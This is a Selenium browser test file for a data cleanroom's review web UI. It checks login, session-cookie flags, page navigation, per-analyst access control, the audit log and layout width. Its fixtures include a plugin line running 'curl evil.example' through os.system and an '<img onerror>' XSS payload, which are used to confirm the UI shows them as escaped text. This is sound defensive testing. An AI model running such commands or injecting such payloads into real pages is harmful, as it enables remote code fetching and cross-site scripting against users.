"""The review page in a real headless Chromium (Selenium): login, every list page, a plugin's code with
its findings, the audit log, a wrong token, logout, and no page wider than a 1280 px window with long
names, ids and reasons. Screenshots go to test-artifacts/screenshots/.

Needs Debian's `chromium` and `chromium-driver` and the `selenium` package. Skips locally without them;
fails when CI=true, so CI can never silently stop testing the page in a browser.
"""

from __future__ import annotations

import os
import shutil
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.test_web import SCRIPT, Seeded, add_dataset, add_job_and_release, add_plugin, approve, seed

REPO = Path(__file__).resolve().parent.parent
SHOTS = REPO / "test-artifacts" / "screenshots"


def _missing(what: str) -> None:
    message = f"the browser test needs {what}"
    if os.environ.get("CI", "").lower() == "true":
        pytest.fail(message + " (CI=true: install it, this test must not skip in CI)")
    pytest.skip(message)


@pytest.fixture(scope="module")
def driver() -> Iterator[Any]:
    try:
        from selenium import webdriver
        from selenium.webdriver.chrome.service import Service
    except ImportError:
        _missing("the selenium package (pip install selenium)")
    binary = os.environ.get("CHROMIUM_BIN") or shutil.which("chromium") or shutil.which("chromium-browser")
    chromedriver = os.environ.get("CHROMEDRIVER_BIN") or shutil.which("chromedriver")
    if not binary or not chromedriver or not Path(binary).exists() or not Path(chromedriver).exists():
        _missing("chromium and chromedriver (apt-get install chromium chromium-driver)")
    options = webdriver.ChromeOptions()
    options.binary_location = binary
    for arg in (
        "--headless=new",
        "--no-sandbox",
        "--disable-gpu",
        "--disable-dev-shm-usage",
        "--window-size=1280,900",
        "--disable-extensions",
        "--no-first-run",
    ):
        options.add_argument(arg)
    browser = webdriver.Chrome(service=Service(executable_path=chromedriver), options=options)
    browser.set_page_load_timeout(30)
    SHOTS.mkdir(parents=True, exist_ok=True)
    yield browser
    browser.quit()


@pytest.fixture
def seeded(room: Any, tmp_path: Path, driver: Any) -> Seeded:
    driver.delete_all_cookies()
    return seed(room, tmp_path)


def shot(driver: Any, name: str) -> None:
    height = driver.execute_script("return document.documentElement.scrollHeight")
    driver.set_window_size(1280, max(900, min(int(height) + 120, 6000)))
    assert driver.save_screenshot(str(SHOTS / f"{name}.png"))
    driver.set_window_size(1280, 900)


def click_and_wait(driver: Any, element: Any) -> None:
    """Click a link or a form's button and wait until the browser shows the new document."""
    from selenium.common.exceptions import WebDriverException
    from selenium.webdriver.support.ui import WebDriverWait

    def gone(_: Any) -> bool:
        # Chromium reports a node of the old document as stale, or as "not in the document"
        try:
            element.is_enabled()
        except WebDriverException:
            return True
        return False

    element.click()
    WebDriverWait(driver, 15).until(gone)
    WebDriverWait(driver, 15).until(lambda d: d.execute_script("return document.readyState") == "complete")


def log_in(driver: Any, room: Any, token: str) -> None:
    from selenium.webdriver.common.by import By

    driver.get(room.url + "/ui/login")
    driver.find_element(By.ID, "token").send_keys(token)
    click_and_wait(driver, driver.find_element(By.CSS_SELECTOR, "form.login button[type=submit]"))


def test_wrong_token_shows_the_login_page_with_an_error(driver, room, seeded):
    from selenium.webdriver.common.by import By

    log_in(driver, room, seeded.tokens["bank"][:-2] + "xx")
    assert driver.current_url == room.url + "/ui/login"
    assert "not valid" in driver.find_element(By.CSS_SELECTOR, "p.error").text
    assert not any(c["name"] == "cleanroom_session" for c in driver.get_cookies())
    shot(driver, "login-wrong-token")
    driver.get(room.url + "/ui/datasets")
    assert driver.find_element(By.ID, "token") and "customers" not in driver.page_source


def test_review_pages_in_a_browser(driver, room, seeded):
    from selenium.webdriver.common.by import By

    log_in(driver, room, seeded.tokens["bank"])
    assert driver.current_url == room.url + "/ui/datasets"
    session = next(c for c in driver.get_cookies() if c["name"] == "cleanroom_session")
    assert session["httpOnly"] and session.get("sameSite") == "Strict"
    assert driver.execute_script("return document.cookie") == ""  # the token is out of reach of scripts
    assert "customers" in driver.find_element(By.TAG_NAME, "table").text
    shot(driver, "datasets")

    click_and_wait(driver, driver.find_element(By.LINK_TEXT, "customers"))
    assert "min_group_size = 10" in driver.find_element(By.TAG_NAME, "pre").text
    shot(driver, "dataset")

    for nav, name, expect in (
        ("Plugins", "plugins", "drop-gaps"),
        ("Jobs", "jobs", "churn-by-region"),
        ("Releases", "releases", seeded.release_id),
    ):
        click_and_wait(driver, driver.find_element(By.LINK_TEXT, nav))
        assert driver.current_url.endswith("/ui/" + name)
        assert expect in driver.find_element(By.TAG_NAME, "main").text
        shot(driver, name)

    driver.get(room.url + f"/ui/plugins/{seeded.ana_plugin}")
    line = driver.find_element(By.ID, "f1-L5")
    assert "flag-blocking" in line.get_attribute("class") and 'os.system("curl evil.example")' in line.text
    finding = driver.find_element(By.CSS_SELECTOR, "tr.finding.blocking")
    assert "os.system runs a shell <img src=x onerror=alert(1)>" in finding.text  # shown as text
    assert SCRIPT in driver.find_element(By.ID, "f1-L1").text  # the code's <script> is text, not markup
    assert not driver.find_elements(By.TAG_NAME, "script") and not driver.find_elements(By.TAG_NAME, "img")
    assert f"cleanroom plugin approve {seeded.ana_plugin} --dataset customers" in driver.page_source
    shot(driver, "plugin")

    driver.get(room.url + f"/ui/releases/{seeded.release_id}")
    assert "smallest group 12 >= 10" in driver.find_element(By.TAG_NAME, "main").text
    shot(driver, "release")

    click_and_wait(driver, driver.find_element(By.LINK_TEXT, "Audit log"))
    assert "The hash chain verifies" in driver.find_element(By.CSS_SELECTOR, "p.banner.ok").text
    assert "dataset.created" in driver.find_element(By.TAG_NAME, "table").text
    shot(driver, "audit")

    # logout is a POST form: Chromium's own request passes the CSRF checks
    click_and_wait(driver, driver.find_element(By.CSS_SELECTOR, "header form button"))
    assert driver.current_url == room.url + "/ui/login"
    assert not any(c["name"] == "cleanroom_session" for c in driver.get_cookies())
    driver.get(room.url + "/ui/plugins")
    assert "Log in" in driver.find_element(By.TAG_NAME, "h1").text and "drop-gaps" not in driver.page_source


def test_an_analyst_sees_only_its_own_plugins(driver, room, seeded):
    from selenium.webdriver.common.by import By

    log_in(driver, room, seeded.tokens["ana"])
    click_and_wait(driver, driver.find_element(By.LINK_TEXT, "Plugins"))
    text = driver.find_element(By.TAG_NAME, "main").text
    assert "drop-gaps" in text and "bob-secret-model" not in text
    driver.get(room.url + f"/ui/plugins/{seeded.bob_plugin}")
    assert "Error 404" in driver.find_element(By.TAG_NAME, "h1").text


LONG_DATASET = "hospital.outpatient_visits_by_practice_2019_2023"
LONG_ORG = "northern-regional-health-insurance-coop"  # names at their longest allowed
LONG_JOB = "doctor-visits-poisson-model-by-age-band-region-and-plan-2019-23"
LONG_REASON = (
    "release checks failed: aggregate:spec (the table visits_by_region_and_age_band groups by a "
    "subset of visits_by_region_age_band_and_plan_type_detailed's keys: "
    "a_differencing_attack_would_recover_suppressed_cells_without_any_noise_at_all)"
)
LONG_PLUGIN = "poisson-regression-with-offset-and-robust-errors-of-visit-counts"


def test_the_main_pages_fit_a_1280_px_window(driver, room, seeded, tmp_path):
    """Long dataset, org, job and plugin names, 64-hex ids and an unbroken reason: every main page stays
    within the window (cells wrap, ids are cut with an ellipsis), none scrolls sideways."""
    from selenium.webdriver.common.by import By

    insurer = room.org(LONG_ORG, "owner", "analyst")
    insurer_id = insurer.whoami()["id"]
    add_dataset(room, insurer_id, LONG_DATASET, "Outpatient visits per person and year " * 8)
    plugin = add_plugin(
        room,
        tmp_path / "long",
        insurer_id,
        LONG_PLUGIN,
        "10.20.30",
        "def spec():\n    return {}\n",
        [
            {
                "severity": "warning",
                "file": "plugin.py",
                "line": 1,
                "rule": "very-long-rule-name-" * 4,
                "message": "x" * 300,
            }
        ],
    )
    approve(room, plugin, insurer_id, LONG_DATASET)
    _, release_id = add_job_and_release(
        room, insurer_id, LONG_ORG, LONG_DATASET, plugin_id=plugin, name=LONG_JOB, reason=LONG_REASON
    )
    log_in(driver, room, insurer.token or "")
    assert driver.execute_script("return window.innerWidth") == 1280
    pages = {
        "datasets": "/ui/datasets",
        "dataset": f"/ui/datasets/{LONG_DATASET}",
        "plugins": "/ui/plugins",
        "plugin": f"/ui/plugins/{plugin}",
        "jobs": "/ui/jobs",
        "releases": "/ui/releases",
        "release": f"/ui/releases/{release_id}",
    }
    for name, path in pages.items():
        driver.get(room.url + path)
        main = driver.find_element(By.TAG_NAME, "main").text
        assert "Error" not in driver.find_element(By.TAG_NAME, "h1").text, (name, main[:300])
        width, client = driver.execute_script(
            "return [document.documentElement.scrollWidth, document.documentElement.clientWidth]"
        )
        assert width <= 1280 and width <= client, (name, width, client)
        shot(driver, f"wide-{name}")
    driver.get(room.url + "/ui/jobs")
    cell = driver.find_element(By.CSS_SELECTOR, "table.jobs td code.id")  # cut, whole in the tooltip
    assert cell.get_attribute("title").startswith("job_")
    assert (
        driver.execute_script("return arguments[0].scrollWidth > arguments[0].clientWidth", cell) is False
        or cell.value_of_css_property("text-overflow") == "ellipsis"
    )
    assert LONG_REASON in driver.find_element(By.TAG_NAME, "main").text  # wrapped, not cut
    driver.get(room.url + f"/ui/releases/{release_id}")
    raw = driver.find_element(By.TAG_NAME, "details")
    assert raw.get_attribute("open") is None and not driver.find_element(By.CSS_SELECTOR, "details pre").is_displayed()
    assert "aggregate table" in driver.find_element(By.TAG_NAME, "main").text
